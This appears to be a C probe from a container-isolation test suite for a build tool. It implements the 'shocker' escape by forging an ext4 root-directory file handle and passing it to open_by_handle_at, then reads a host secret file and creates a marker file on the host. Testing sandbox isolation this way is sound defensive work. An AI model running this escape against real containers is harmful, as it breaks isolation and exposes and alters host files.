// name_to_handle_at/open_by_handle_at ("shocker"): a file handle names an inode on the whole
// filesystem, not a path; the filesystem root of ext4 is inode 2, generation 0. With
// CAP_DAC_READ_SEARCH (ocibuild as root) open_by_handle_at opens the host's root directory from
// any fd on the same filesystem, and openat() from there reaches everything.
#include "probe.h"

struct h8 {
  unsigned int handle_bytes;
  int handle_type;
  unsigned char f_handle[8];
};

int main(void) {
  p_start();
  char* rel = p_strf("%s/host/secret.txt", T() + 1);
  struct {
    struct file_handle fh;
    unsigned char buf[128];
  } h;
  h.fh.handle_bytes = 128;
  int mnt;
  long rc = syscall(SYS_name_to_handle_at, AT_FDCWD, "/bin/busybox", &h.fh, &mnt, 0);
  ATT(rc, "name_to_handle_at(/bin/busybox)");
  if (rc == 0) {
    int fd = (int)syscall(SYS_open_by_handle_at, open("/", O_RDONLY), &h.fh, O_RDONLY);
    ATT(fd, "open_by_handle_at(own handle)");
  }
  h.fh.handle_bytes = 128;
  rc = syscall(SYS_name_to_handle_at, AT_FDCWD, p_strf("/proc/self/root/%s", rel), &h.fh, &mnt, 0);
  ATT(rc, "name_to_handle_at(/proc/self/root/<host secret>)");
  // The forged handle: ext4 FILEID_INO32_GEN (1), inode 2, generation 0.
  struct h8 forged = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};
  int mfd = open("/", O_RDONLY | O_DIRECTORY);
  int root = (int)syscall(SYS_open_by_handle_at, mfd, &forged, O_RDONLY | O_DIRECTORY);
  ATT(root, "open_by_handle_at(forged ext4 root handle)");
  if (root >= 0) {
    int f = openat(root, rel, O_RDONLY);
    ATT(f, "openat(host root, %s)", rel);
    if (f >= 0) loot_fd("shocker", f);
    f = openat(root, p_strf("%s/host/ocib-esc-%s-shocker", T() + 1, nonce()), O_CREAT | O_WRONLY,
               0644);
    ATT(f, "openat(host root, create)");
  }
  p_end();
}
